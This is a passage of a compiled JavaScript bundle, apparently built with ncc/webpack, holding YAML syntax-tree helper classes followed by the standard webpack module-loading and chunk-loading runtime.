        this.start = start;
        this.end = end;
        this.flow = flow;
        this.entries = entries;
    }
    /** The first entry of that key; YAML allows no second one, see `YamlDocument.problems`. */
    entry(key) {
        const entries = this.entries;
        for (let i = 0; i < entries.length; i++) {
            const entry = entries[i];
            if (entry.key.value === key)
                return entry;
        }
        return undefined;
    }
    get(key) {
        return this.entry(key)?.value;
    }
    scalar(key) {
        const node = this.get(key);
        return node?.kind === "scalar" ? node : undefined;
    }
    map(key) {
        const node = this.get(key);
        return node?.kind === "map" ? node : undefined;
    }
    seq(key) {
        const node = this.get(key);
        return node?.kind === "seq" ? node : undefined;
    }
    /** The text of a scalar that is not null. */
    text(key) {
        const node = this.scalar(key);
        return node && !node.isNull ? node.value : undefined;
    }
}
class YamlSeq {
    file;
    start;
    end;
    flow;
    items;
    kind = "seq";
    constructor(file, start, end, flow, items) {
        this.file = file;
        this.start = start;
        this.end = end;
        this.flow = flow;
        this.items = items;
    }
}


/***/ })

/******/ });
/************************************************************************/
/******/ // The module cache
/******/ var __webpack_module_cache__ = {};
/******/ 
/******/ // The require function
/******/ function __nccwpck_require__(moduleId) {
/******/ 	// Check if module is in cache
/******/ 	var cachedModule = __webpack_module_cache__[moduleId];
/******/ 	if (cachedModule !== undefined) {
/******/ 		return cachedModule.exports;
/******/ 	}
/******/ 	// Create a new module (and put it into the cache)
/******/ 	var module = __webpack_module_cache__[moduleId] = {
/******/ 		// no module.id needed
/******/ 		// no module.loaded needed
/******/ 		exports: {}
/******/ 	};
/******/ 
/******/ 	// Execute the module function
/******/ 	var threw = true;
/******/ 	try {
/******/ 		__webpack_modules__[moduleId].call(module.exports, module, module.exports, __nccwpck_require__);
/******/ 		threw = false;
/******/ 	} finally {
/******/ 		if(threw) delete __webpack_module_cache__[moduleId];
/******/ 	}
/******/ 
/******/ 	// Return the exports of the module
/******/ 	return module.exports;
/******/ }
/******/ 
/******/ // expose the modules object (__webpack_modules__)
/******/ __nccwpck_require__.m = __webpack_modules__;
/******/ 
/************************************************************************/
/******/ /* webpack/runtime/asset-relocator-loader */
/******/ if (typeof __nccwpck_require__ !== 'undefined') __nccwpck_require__.ab = decodeURIComponent(new URL('.', import.meta.url).pathname).slice(import.meta.url.match(/^file:\/\/\/\w:/) ? 1 : 0, -1) + "/";
/******/ 
/******/ /* webpack/runtime/async module */
/******/ (() => {
/******/ 	var webpackQueues = typeof Symbol === "function" ? Symbol("webpack queues") : "__webpack_queues__";
/******/ 	var webpackExports = typeof Symbol === "function" ? Symbol("webpack exports") : "__webpack_exports__";
/******/ 	var webpackError = typeof Symbol === "function" ? Symbol("webpack error") : "__webpack_error__";
/******/ 	var resolveQueue = (queue) => {
/******/ 		if(queue && queue.d < 1) {
/******/ 			queue.d = 1;
/******/ 			queue.forEach((fn) => (fn.r--));
/******/ 			queue.forEach((fn) => (fn.r-- ? fn.r++ : fn()));
/******/ 		}
/******/ 	}
/******/ 	var wrapDeps = (deps) => (deps.map((dep) => {
/******/ 		if(dep !== null && typeof dep === "object") {
/******/ 			if(dep[webpackQueues]) return dep;
/******/ 			if(dep.then) {
/******/ 				var queue = [];
/******/ 				queue.d = 0;
/******/ 				dep.then((r) => {
/******/ 					obj[webpackExports] = r;
/******/ 					resolveQueue(queue);
/******/ 				}, (e) => {
/******/ 					obj[webpackError] = e;
/******/ 					resolveQueue(queue);
/******/ 				});
/******/ 				var obj = {};
/******/ 				obj[webpackQueues] = (fn) => (fn(queue));
/******/ 				return obj;
/******/ 			}
/******/ 		}
/******/ 		var ret = {};
/******/ 		ret[webpackQueues] = x => {};
/******/ 		ret[webpackExports] = dep;
/******/ 		return ret;
/******/ 	}));
/******/ 	__nccwpck_require__.a = (module, body, hasAwait) => {
/******/ 		var queue;
/******/ 		hasAwait && ((queue = []).d = -1);
/******/ 		var depQueues = new Set();
/******/ 		var exports = module.exports;
/******/ 		var currentDeps;
/******/ 		var outerResolve;
/******/ 		var reject;
/******/ 		var promise = new Promise((resolve, rej) => {
/******/ 			reject = rej;
/******/ 			outerResolve = resolve;
/******/ 		});
/******/ 		promise[webpackExports] = exports;
/******/ 		promise[webpackQueues] = (fn) => (queue && fn(queue), depQueues.forEach(fn), promise["catch"](x => {}));
/******/ 		module.exports = promise;
/******/ 		body((deps) => {
/******/ 			currentDeps = wrapDeps(deps);
/******/ 			var fn;
/******/ 			var getResult = () => (currentDeps.map((d) => {
/******/ 				if(d[webpackError]) throw d[webpackError];
/******/ 				return d[webpackExports];
/******/ 			}))
/******/ 			var promise = new Promise((resolve) => {
/******/ 				fn = () => (resolve(getResult));
/******/ 				fn.r = 0;
/******/ 				var fnQueue = (q) => (q !== queue && !depQueues.has(q) && (depQueues.add(q), q && !q.d && (fn.r++, q.push(fn))));
/******/ 				currentDeps.map((dep) => (dep[webpackQueues](fnQueue)));
/******/ 			});
/******/ 			return fn.r ? promise : getResult();
/******/ 		}, (err) => ((err ? reject(promise[webpackError] = err) : outerResolve(exports)), resolveQueue(queue)));
/******/ 		queue && queue.d < 0 && (queue.d = 0);
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/create fake namespace object */
/******/ (() => {
/******/ 	var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
/******/ 	var leafPrototypes;
/******/ 	// create a fake namespace object
/******/ 	// mode & 1: value is a module id, require it
/******/ 	// mode & 2: merge all properties of value into the ns
/******/ 	// mode & 4: return value when already ns object
/******/ 	// mode & 16: return value when it's Promise-like
/******/ 	// mode & 8|1: behave like require
/******/ 	__nccwpck_require__.t = function(value, mode) {
/******/ 		if(mode & 1) value = this(value);
/******/ 		if(mode & 8) return value;
/******/ 		if(typeof value === 'object' && value) {
/******/ 			if((mode & 4) && value.__esModule) return value;
/******/ 			if((mode & 16) && typeof value.then === 'function') return value;
/******/ 		}
/******/ 		var ns = Object.create(null);
/******/ 		__nccwpck_require__.r(ns);
/******/ 		var def = {};
/******/ 		leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
/******/ 		for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
/******/ 			Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
/******/ 		}
/******/ 		def['default'] = () => (value);
/******/ 		__nccwpck_require__.d(ns, def);
/******/ 		return ns;
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/define property getters */
/******/ (() => {
/******/ 	// define getter functions for harmony exports
/******/ 	__nccwpck_require__.d = (exports, definition) => {
/******/ 		for(var key in definition) {
/******/ 			if(__nccwpck_require__.o(definition, key) && !__nccwpck_require__.o(exports, key)) {
/******/ 				Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
/******/ 			}
/******/ 		}
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/ensure chunk */
/******/ (() => {
/******/ 	__nccwpck_require__.f = {};
/******/ 	// This file contains only the entry chunk.
/******/ 	// The chunk loading function for additional chunks
/******/ 	__nccwpck_require__.e = (chunkId) => {
/******/ 		return Promise.all(Object.keys(__nccwpck_require__.f).reduce((promises, key) => {
/******/ 			__nccwpck_require__.f[key](chunkId, promises);
/******/ 			return promises;
/******/ 		}, []));
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/get javascript chunk filename */
/******/ (() => {
/******/ 	// This function allow to reference async chunks
/******/ 	__nccwpck_require__.u = (chunkId) => {
/******/ 		// return url for filenames based on template
/******/ 		return "" + chunkId + ".index.js";
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/hasOwnProperty shorthand */
/******/ (() => {
/******/ 	__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
/******/ })();
/******/ 
/******/ /* webpack/runtime/make namespace object */
/******/ (() => {
/******/ 	// define __esModule on exports
/******/ 	__nccwpck_require__.r = (exports) => {
/******/ 		if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
/******/ 			Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
/******/ 		}
/******/ 		Object.defineProperty(exports, '__esModule', { value: true });
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/import chunk loading */
/******/ (() => {
/******/ 	// no baseURI
/******/ 	
/******/ 	// object to store loaded and loading chunks
/******/ 	// undefined = chunk not loaded, null = chunk preloaded/prefetched
/******/ 	// [resolve, Promise] = chunk loading, 0 = chunk loaded
/******/ 	var installedChunks = {
/******/ 		792: 0
/******/ 	};
/******/ 	
/******/ 	var installChunk = (data) => {
/******/ 		var {ids, modules, runtime} = data;
/******/ 		// add "modules" to the modules object,
/******/ 		// then flag all "ids" as loaded and fire callback
/******/ 		var moduleId, chunkId, i = 0;
/******/ 		for(moduleId in modules) {
/******/ 			if(__nccwpck_require__.o(modules, moduleId)) {
/******/ 				__nccwpck_require__.m[moduleId] = modules[moduleId];
/******/ 			}
/******/ 		}
/******/ 		if(runtime) runtime(__nccwpck_require__);
/******/ 		for(;i < ids.length; i++) {
/******/ 			chunkId = ids[i];
/******/ 			if(__nccwpck_require__.o(installedChunks, chunkId) && installedChunks[chunkId]) {
/******/ 				installedChunks[chunkId][0]();
/******/ 			}
/******/ 			installedChunks[ids[i]] = 0;
/******/ 		}
/******/ 	
/******/ 	}
/******/ 	
/******/ 	__nccwpck_require__.f.j = (chunkId, promises) => {
/******/ 			// import() chunk loading for javascript
/******/ 			var installedChunkData = __nccwpck_require__.o(installedChunks, chunkId) ? installedChunks[chunkId] : undefined;
/******/ 			if(installedChunkData !== 0) { // 0 means "already installed".
/******/ 	
/******/ 				// a Promise means "currently loading".
/******/ 				if(installedChunkData) {
/******/ 					promises.push(installedChunkData[1]);
/******/ 				} else {
/******/ 					if(true) { // all chunks have JS
/******/ 						// setup Promise in chunk cache
/******/ 						var promise = import("./" + __nccwpck_require__.u(chunkId)).then(installChunk, (e) => {
/******/ 							if(installedChunks[chunkId] !== 0) installedChunks[chunkId] = undefined;
/******/ 							throw e;
/******/ 						});
/******/ 						var promise = Promise.race([promise, new Promise((resolve) => (installedChunkData = installedChunks[chunkId] = [resolve]))])
/******/ 						promises.push(installedChunkData[1] = promise);
/******/ 					}
/******/ 				}
/******/ 			}
/******/ 	};
/******/ 	
/******/ 	// no prefetching
/******/ 	
/******/ 	// no preloaded
/******/ 	
/******/ 	// no external install chunk
/******/ 	
/******/ 	// no on chunks loaded
/******/ })();
/******/ 
/************************************************************************/
/******/ 
/******/ // startup
/******/ // Load entry module and return exports
/******/ // This entry module used 'module' so it can't be inlined
/******/ var __webpack_exports__ = __nccwpck_require__(4527);
/******/ __webpack_exports__ = await __webpack_exports__;
/******/ 
